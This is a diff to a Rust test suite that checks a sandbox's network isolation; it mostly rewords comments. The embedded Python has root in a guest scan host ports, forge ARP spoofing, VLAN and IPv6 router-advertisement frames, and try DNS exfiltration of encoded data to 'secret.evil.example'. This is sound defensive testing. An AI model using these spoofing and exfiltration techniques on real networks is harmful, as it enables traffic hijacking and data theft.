@@ -1,5 +1,5 @@
-//! Attacks of root in a guest by network, beyond those of network.rs: ports of the daemon, raw
-//! frames, names as a way out.
+//! Network attacks by root in a guest, in addition to network.rs: ports of the daemon, raw frames,
+//! DNS as a way out.
 
 use crate::support::lab::{HOST, RESOLVER, with_lab};
 use crate::support::network_probe::{clean, create, networked, python, reach, root_python};
@@ -14,7 +14,7 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::thread::{self, JoinHandle};
 use std::time::Duration;
 
-/// Frames by hand, for programs in guests.
+/// Functions for raw frames, for programs in guests.
 const FRAMES: &str = r#"
 import fcntl, struct
 # SIOCGIFHWADDR (netdevice(7)).
@@ -38,7 +38,7 @@ def udp(to, text, port=7, **more):
     return ip(to, 17, struct.pack("!HHHH", 5000, port, 8 + len(text), 0) + text, **more)
 "#;
 
-/// Numbers of the TCP ports with a listener in this network namespace.
+/// Returns the TCP ports with a listener in this network namespace.
 fn listening() -> BTreeSet<u16> {
     let mut ports = BTreeSet::new();
     for file in ["tcp", "tcp6"] {
@@ -59,17 +59,17 @@ fn listening() -> BTreeSet<u16> {
 fn no_address_leads_a_guest_to_its_daemon_or_to_a_port_of_its_host() {
     with_lab(|_| {
         let test_home = TestHome::new();
-        let heard = UdpSocket::bind("0.0.0.0:7").unwrap();
-        // Without a key it would not listen to others.
+        let received = UdpSocket::bind("0.0.0.0:7").unwrap();
+        // Without a key, the daemon would not listen on other addresses.
         test_home.ok(&["key", "create", "--name", "test"]);
         let start = ["daemon", "start", "--listen", "0.0.0.0:0"];
         let options = ["--network", "on", "--warm-pool", "0"];
-        let told = test_home.ok(&[&start[..], &options].concat());
-        let port = told.lines().find_map(|l| l.strip_prefix("listening on "));
+        let report = test_home.ok(&[&start[..], &options].concat());
+        let port = report.lines().find_map(|l| l.strip_prefix("listening on "));
         let port: u16 = port.unwrap().rsplit(':').next().unwrap().parse().unwrap();
         let mut ports = listening();
-        assert!(ports.contains(&port), "{ports:?} of {told}");
-        // Of its namespace: names, the way by name, and what a careless program might listen at.
+        assert!(ports.contains(&port), "{ports:?} of {report}");
+        // Ports in its namespace: name server, proxy, and common ports of other programs.
         ports.extend([22, 53, 80, 443, 3000, 3180, 3443, 8080, 49_983, 49_984]);
         let id = test_home.ok(&["create"]);
         let slots: Vec<String> = (0..8).map(|i| format!("198.18.0.{i}")).collect();
@@ -83,7 +83,7 @@ for host in {addresses:?}:
     for port in {ports:?}:
         s = socket.socket()
         s.settimeout(2)
-        # Towards the card, also what this guest takes for itself.
+        # Towards the card, including addresses that the guest treats as its own.
         s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
         try: s.connect((host, port)); found.add((host, port))
         except OSError: pass
@@ -91,13 +91,14 @@ for host in {addresses:?}:
 print(sorted(found))
 "#
         );
-        // Its own name server is all there is; the address of everybody is the guest itself.
+        // Only the guest's own name server is reachable; the unspecified address is the guest
+        // itself.
         assert_eq!(
             root_python(&test_home, &id, &program),
             "[('169.254.0.22', 53)]"
         );
-        // By hand also to where no socket would send: the host's loopback, everybody, many, itself
-        // under another name; with a route of the sender's choice (RFC 791, loose source routing).
+        // Raw frames to addresses that sockets reject: the host's loopback, broadcast, multicast,
+        // another address of the guest; and with loose source routing (RFC 791).
         let program = format!(
             r#"{FRAMES}
 here = ["127.0.0.1", "{HOST}", "0.0.0.0", "255.255.255.255", "224.0.0.1", "11.0.0.255"]
@@ -110,12 +111,12 @@ for to in here:
 "#
         );
         root_python(&test_home, &id, &program);
-        // Earlier packets have passed when an answer came back over the same wire.
+        // Earlier packets have passed when an answer has arrived over the same link.
         assert_eq!(reach(&test_home, &id, "9.9.9.9"), "internet");
-        heard.set_nonblocking(true).unwrap();
+        received.set_nonblocking(true).unwrap();
         let mut buffer = [0; 64];
         assert!(
-            heard.recv_from(&mut buffer).is_err(),
+            received.recv_from(&mut buffer).is_err(),
             "the host was reached"
         );
         test_home.ok(&["daemon", "stop", "--kill-sandboxes"]);
@@ -124,11 +125,11 @@ for to in here:
     });
 }
 
-/// Everything that arrives from slots in the lab's host, until told to stop: kinds of frames and,
-/// of IPv4, where from.
+/// Returns all packets that arrive from slots in the lab's host until `stop` is set: kinds of
+/// frames, and the source addresses of IPv4.
 fn listen_to_slots(stop: Arc<AtomicBool>) -> JoinHandle<BTreeSet<String>> {
     let all = libc::ETH_P_ALL.cast_unsigned() as u16;
-    // SAFETY: makes a socket, in the network namespace of this thread.
+    // SAFETY: creates a socket in the network namespace of this thread.
     let fd = unsafe {
         libc::socket(
             libc::AF_PACKET,
@@ -137,16 +138,16 @@ fn listen_to_slots(stop: Arc<AtomicBool>) -> JoinHandle<BTreeSet<String>> {
         )
     };
     assert!(fd >= 0);
-    // SAFETY: it was just made and has no other owner.
+    // SAFETY: the descriptor was just created and has no other owner.
     let socket = unsafe { OwnedFd::from_raw_fd(fd) };
     thread::spawn(move || {
         let mut seen = BTreeSet::new();
         let mut frame = [0u8; 2048];
         while !stop.load(Ordering::SeqCst) {
-            // SAFETY: all zeroes are a valid `sockaddr_ll`, which is plain integers.
+            // SAFETY: all zeros are a valid `sockaddr_ll`, which contains only integers.
             let mut from: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
             let mut length = size_of::<libc::sockaddr_ll>().try_into().unwrap();
-            // SAFETY: buffer and address are of the lengths given and live through the call.
+            // SAFETY: buffer and address have the given lengths and outlive the call.
             let read = unsafe {
                 libc::recvfrom(
                     socket.as_raw_fd(),
@@ -177,7 +178,10 @@ fn listen_to_slots(stop: Arc<AtomicBool>) -> JoinHandle<BTreeSet<String>> {
     })
 }
 
-#[jiffy_test(not_on_gvisor = "gVisor lets no bound packet socket send", lab)]
+#[jiffy_test(
+    not_on_gvisor = "gVisor does not allow bound packet sockets to send",
+    lab
+)]
 fn raw_frames_of_any_kind_reach_no_other_guest() {
     networked(&[], |test_home, lab| {
         let (id, other) = (test_home.ok(&["create"]), test_home.ok(&["create"]));
@@ -189,28 +193,28 @@ fn raw_frames_of_any_kind_reach_no_other_guest() {
 def arp(operation, mac, address, to=GATEWAY):
     send(0x0806, struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + mac + socket.inet_aton(address) + to + socket.inet_aton("169.254.0.22"), to)
     send(0x0806, struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + mac + socket.inet_aton(address) + EVERYBODY + socket.inet_aton(address), EVERYBODY)
-# Whoever believes one of these sends elsewhere from then on.
+# A receiver that accepts one of these sends packets to the wrong host.
 for operation in (1, 2):
     for address in ("169.254.0.22", "169.254.0.23", "198.18.0.0", "198.18.0.1", "198.18.0.2", "11.0.0.1"):
         arp(operation, OWN, address)
         arp(operation, GATEWAY, address)
     arp(operation, b"\x02\0\0\0\0\x01", "169.254.0.21")
 packet = udp("9.9.9.9", b"in disguise")
-# Kinds that nobody here speaks: LLDP, EAPOL, MPLS, PPPoE, loopback, Novell's, 802.3 lengths.
+# Unused protocols: LLDP, EAPOL, MPLS, PPPoE, loopback, Novell's, 802.3 lengths.
 for kind in (0x88cc, 0x888e, 0x8847, 0x8848, 0x8863, 0x8864, 0x9000, 0x8137, 0x0026, 0x22f0, 0xffff):
     for to in (GATEWAY, EVERYBODY, b"\x01\x80\xc2\0\0\x0e"):
         send(kind, packet, to)
-# In virtual networks, once and twice.
+# With one and two VLAN tags.
 for tag in (0, 1, 100, 4095):
     for outer in (0x8100, 0x88a8, 0x9100):
         send(outer, struct.pack("!HH", tag, 0x0800) + packet)
         send(outer, struct.pack("!HHHH", tag, 0x8100, tag, 0x0800) + packet)
-# A router of IPv6 with a prefix of its own, and a neighbour.
+# An IPv6 router advertisement with its own prefix, and a neighbour advertisement.
 router = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\3\4\x40\xc0" + b"\xff" * 8 + bytes(4) + bytes.fromhex("2a000001") + bytes(12)
 for kind in (router, struct.pack("!BBHI", 136, 0, 0, 0xe0000000) + bytes.fromhex("fe80") + bytes(14)):
     head = struct.pack("!IHBB", 0x60000000, len(kind), 58, 255) + bytes.fromhex("fe80") + bytes(13) + b"\1"
     send(0x86dd, head + bytes.fromhex("ff02") + bytes(13) + b"\1" + kind, b"\x33\x33\0\0\0\1")
-# An address of IPv6 set by hand, in spite of what it was told.
+# An IPv6 address set manually, although IPv6 is disabled.
 for name in ("all", "eth0"):
     try: open("/proc/sys/net/ipv6/conf/%s/disable_ipv6" % name, "w").write("0")
     except OSError: pass
@@ -223,7 +227,7 @@ try:
         six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
         six.sendto(b"by IPv6", (to, 7, 0, index))
 except OSError: pass
-# Larger than the card's, broken, in pieces, too short for their headers, of other protocols within.
+# Larger than the MTU, broken, fragmented, too short for their headers, with other protocols inside.
 for length in (1500, 2000, 9000, 65000):
     send(0x0800, udp("9.9.9.9", b"x" * length)[:length + 20])
 for packet in (b"", b"\x45", b"\x4f" + b"\0" * 19, b"\x45\0\xff\xff" + packet[4:], b"\x65" + packet[1:], packet[:24]):
@@ -236,22 +240,22 @@ send(0x0800, udp("9.9.9.9", b"its own"))
 "#
         );
         root_python(test_home, &id, &program);
-        // Earlier packets came on the same way, so they have arrived.
+        // Earlier packets used the same path, so they have arrived.
         let (from, text) = lab.datagrams.recv_timeout(Duration::from_secs(20)).unwrap();
         assert_eq!(String::from_utf8_lossy(&text), "its own");
         assert_eq!(from.ip().to_string(), HOST);
-        // No connection was diverted.
+        // No connection was redirected.
         assert_eq!(reach(test_home, &other, "9.9.9.9"), "internet");
         assert_eq!(reach(test_home, &id, "9.9.9.9"), "internet");
         stop.store(true, Ordering::SeqCst);
         let seen = sniffer.join().unwrap();
         let expected = ["ARP", "IPv4 from 198.18"].map(str::to_owned);
         assert!(seen.is_subset(&expected.into()), "{seen:?}");
-        assert!(seen.contains("IPv4 from 198.18"), "nothing was heard");
+        assert!(seen.contains("IPv4 from 198.18"), "no packet was received");
     });
 }
 
-/// Asks name servers by hand, for programs in guests.
+/// Sends raw questions to name servers, for programs in guests.
 const ASK: &str = r#"
 import struct
 def question(name, kind):
@@ -277,7 +281,8 @@ def ask(server, name, kind=1, over="udp"):
 fn dns_carries_no_data_out_under_restricted_egress() {
     networked(&[], |test_home, _| {
         let say = |id: &str, program: &str| python(test_home, id, &format!("{ASK}\n{program}"));
-        // A (1), NS, CNAME, NULL, TXT and AAAA; its own server and others, which would answer.
+        // A (1), NS, CNAME, NULL, TXT and AAAA, to the guest's name server and to others, which
+        // would answer.
         let program = format!(
             r#"
 name = "aGVsbG8.secret.evil.example"
@@ -299,8 +304,8 @@ print(*own, *others, ask("169.254.0.22", "good.example"))
             json!({ "network": { "allowOut": ["good.example"], "denyOut": ["0.0.0.0/0"] } });
         let names = create(test_home, rules);
         assert_eq!(say(&names, &program), "refused nobody answer");
-        // Nor hidden in one that is allowed: as two questions, as another class, or behind what a
-        // server would cut off.
+        // Data hidden in an allowed question: as a second question, as another class, or after the
+        // part that a server would truncate.
         let hidden = r#"
 def raw(text):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
@@ -313,8 +318,8 @@ good, evil = question("good.example", 16), question("secret.evil.example", 16)
 two = good[:4] + struct.pack("!4H", 2, 0, 0, 0) + good[12:] + evil[12:]
 print(raw(two), raw(evil[:2] + b"\x29" + evil[3:]), raw(evil[:2] + b"\x81" + evil[3:]), raw(b"\0" * 11), raw(evil[:20]))
 "#;
-        // NOTIMP (4) for more than one question and for updates; answers and what is cut short get
-        // none.
+        // NOTIMP (4) for several questions and for updates. Responses and truncated messages are
+        // ignored.
         assert_eq!(say(&names, hidden), "4 4 silence silence silence");
     });
 }
